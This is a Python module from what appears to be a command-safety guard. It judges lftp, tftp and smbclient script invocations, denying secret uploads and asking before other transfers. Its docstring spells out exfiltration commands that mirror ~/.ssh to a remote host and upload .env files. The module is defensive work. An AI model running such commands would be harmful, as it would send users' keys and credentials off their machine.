"""File transfer clients driven by a script on their command line (data/transfers.yaml): `lftp -e 'mirror -R
~/.ssh /in; bye' sftp://…`, `tftp HOST -c put .env`, `smbclient //h/s -c 'put .env'`. Uploads of a secret deny,
other uploads ask, downloads are writes of where they land, a listing is routine."""
from __future__ import annotations

import posixpath
import re
import shlex
from functools import lru_cache
from importlib import resources
from typing import TYPE_CHECKING

from ..model import BlastRadius
from ..yamlfile import Field, check, load_yaml
from .findings import Finding, allow, ask, deny
from .secrets import holds_credentials, is_secret, is_secret_area
from .words import Word

if TYPE_CHECKING:  # pragma: no cover
    from .invocation import Invocation, Run

_LIST = Field(list, items=str)
SCHEMA = {"version": Field(int, required=True, choices=(1,)),
          "clients": Field(dict, required=True, values=Field(dict, fields={
              "script": _LIST, "script_rest": Field(bool), "listing": _LIST})),
          "uploads": _LIST, "downloads": _LIST, "mirror": _LIST, "mirror_reverse": _LIST}


@lru_cache(maxsize=1)
def _data() -> dict:
    text = resources.files("guardtui.core.data").joinpath("transfers.yaml").read_text(encoding="utf-8")
    return parse_transfers(text, "guardtui/core/data/transfers.yaml")


def parse_transfers(text: str, file: str = "transfers.yaml") -> dict:
    doc = load_yaml(text, file, shipped=True)
    check(doc, SCHEMA)
    return doc.data


def clients() -> frozenset[str]:
    return frozenset(_data()["clients"])


def judge(run: "Run", inv: "Invocation") -> list[Finding]:
    data = _data()
    spec = data["clients"][inv.name]
    values = [w.value for w in inv.words]
    if any(v in spec.get("listing", ()) for v in values):
        return [allow(f"{inv.name} only lists what the server shares", "network", rule="net.transfer-list")]
    script = _script(inv.words, spec)
    if script is None:
        return [ask(f"{inv.name} opens a file transfer session with another host", "network", BlastRadius.MEDIUM,
                    "net.transfer")]
    findings: list[Finding] = []
    for command in re.split(r"[;\n]", script):
        try:
            words = shlex.split(command)
        except ValueError:
            words = command.split()
        if not words:
            continue
        verb, args = words[0], [a for a in words[1:] if not a.startswith("-")]
        flags = [a for a in words[1:] if a.startswith("-")]
        reverse = verb in data.get("mirror", ()) and any(f in data.get("mirror_reverse", ()) for f in flags)
        if verb in data.get("uploads", ()) or reverse:
            findings.append(_upload(run, inv, args if verb.startswith("m") and not reverse else args[:1], verb))
        elif verb in data.get("downloads", ()) and args or verb in data.get("mirror", ()) and len(args) >= 2:
            local = args[-1] if len(args) >= 2 else posixpath.basename(args[0])
            local = inv.scope.home + local[1:] if local == "~" or local.startswith("~/") else local
            written = run.write(Word.literal(local), inv, f"{inv.name} {verb} writes")
            findings.append(written if written is not None else
                            allow(f"{inv.name} {verb} downloads into {local}", "network", rule="net.transfer-get"))
    if not findings:
        return [allow(f"{inv.name} runs a script that transfers nothing", "network", rule="net.transfer")]
    return findings


def _upload(run: "Run", inv: "Invocation", paths: list[str], verb: str) -> Finding:
    for path in paths:
        spelled = inv.scope.home + path[1:] if path == "~" or path.startswith("~/") else path
        info = run.path(Word.literal(spelled), inv)
        if info.path and (is_secret(info.path, inv.scope.home, run.tax) or is_secret_area(info.path, inv.scope.home)
                          or holds_credentials(info.path)):
            return deny(f"{inv.name} {verb} sends {path} (keys or credentials) to another host", "secrets",
                        "net.exfiltration")
    return ask(f"{inv.name} {verb} sends local files to another host", "network", BlastRadius.MEDIUM, "net.upload")


def _script(words: list[Word], spec: dict) -> str | None:
    options = set(spec.get("script", ()))
    for i, w in enumerate(words):
        flag, eq, attached = w.value.partition("=")
        if w.value in options and i + 1 < len(words):
            rest = words[i + 1:] if spec.get("script_rest") else words[i + 1:i + 2]
            return " ".join(x.value if not spec.get("script_rest") else shlex.quote(x.value) for x in rest)
        if eq and flag in options:
            return attached
    return None
